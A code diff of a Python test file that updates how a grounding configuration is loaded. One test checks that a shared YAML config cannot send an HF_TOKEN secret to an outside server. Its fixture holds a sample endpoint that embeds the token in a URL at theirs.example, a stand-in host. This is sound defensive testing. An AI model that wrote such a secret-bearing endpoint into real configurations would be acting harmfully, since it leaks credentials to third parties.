@@ -6,7 +6,7 @@ import pytest
 from verl_longrl.secret_settings import SecretSettingError, refuse_secrets
 
 from data_gen.config import ConfigError
-from data_gen.grounding.config import GroundingConfig
+from data_gen.grounding.pipeline import GROUNDING
 from recipe.longrl import settings
 
 CANARY = "canary-of-mine"
@@ -72,7 +72,7 @@ def test_a_foreign_configuration_cannot_send_a_key_to_its_server(monkeypatch, tm
     file = tmp_path / "shared.yaml"
     file.write_text("servers: {one: {endpoints: ['http://theirs.example/${oc.env:HF_TOKEN}/v1']}}\n")
     with pytest.raises(ConfigError, match=r"servers.one.endpoints = 'http://theirs.example/\[secret HF_TOKEN\]/v1"):
-        GroundingConfig.load(file, [])
+        GROUNDING.config.load(file, [])
 
 
 @pytest.mark.engine
